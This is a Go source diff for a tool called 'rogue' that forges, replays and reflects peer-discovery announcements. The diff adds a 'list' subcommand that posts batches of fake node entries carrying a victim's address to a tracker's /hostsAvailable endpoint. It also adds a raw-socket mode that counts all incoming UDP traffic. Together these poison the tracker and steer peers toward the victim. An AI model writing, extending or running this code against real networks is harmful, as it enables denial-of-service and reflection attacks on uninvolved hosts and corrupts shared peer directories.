@@ -4,6 +4,7 @@ import (
 	"encoding/binary"
 	"fmt"
 	"net"
+	"net/http"
 	"net/netip"
 	"os"
 	"strconv"
@@ -21,11 +22,12 @@ import (
 //	rogue forge TO N RATE        sends N announcements a RATE of a second that nobody may believe
 //	rogue replay TO TIME TIMES   records what is announced for a while, and sends each that many times
 //	rogue reflect TO VICTIM N    announces that many nodes as if the victim did, for ten seconds
-//	rogue count PORT TIME        counts what a UDP port gets
+//	rogue count PORT TIME        counts what a UDP port gets, or "all" of them together
+//	rogue list TRACKER VICTIM N  announces that many nodes of the victim's to a tracker
 //	rogue hold PORT TIME FILE    has a UDP port for itself, answers everything and writes what it hears to a file
 func rogue() {
 	ways := map[string]func(args []string) (string, error){
-		"forge": rogueForge, "replay": rogueReplay, "reflect": rogueReflect, "count": rogueCount, "hold": rogueHold,
+		"forge": rogueForge, "replay": rogueReplay, "reflect": rogueReflect, "count": rogueCount, "hold": rogueHold, "list": rogueList,
 	}
 	said, err := ways[os.Args[1]](os.Args[2:])
 	if err != nil {
@@ -266,7 +268,11 @@ func udpPacket(from, to netip.AddrPort, payload []byte) []byte {
 }
 
 func rogueCount(args []string) (string, error) {
-	conn, err := net.ListenPacket("udp4", ":"+args[0])
+	network, addr := "udp4", ":"+args[0]
+	if args[0] == "all" {
+		network, addr = "ip4:udp", "0.0.0.0"
+	}
+	conn, err := net.ListenPacket(network, addr)
 	if err != nil {
 		return "", err
 	}
@@ -283,6 +289,26 @@ func rogueCount(args []string) (string, error) {
 		}
 		senders[from.String()] = true
 	}
+}
+
+func rogueList(args []string) (string, error) {
+	taken := 0
+	for first, n := 0, number(args[2]); first < n; first += 50 {
+		var list []string
+		for i := range min(50, n-first) {
+			list = append(list, fmt.Sprintf(`{"addr":%q,"port":%d,"data":{}}`, args[1], 1000+first+i))
+		}
+		body := `{"masters":[` + strings.Join(list, ",") + `]}`
+		res, err := http.Post("http://"+args[0]+"/hostsAvailable", "application/json", strings.NewReader(body))
+		if err != nil {
+			return "", err
+		}
+		res.Body.Close()
+		if res.StatusCode == http.StatusOK {
+			taken += len(list)
+		}
+	}
+	return fmt.Sprint("listed ", taken), nil
 }
 
 func rogueHold(args []string) (string, error) {
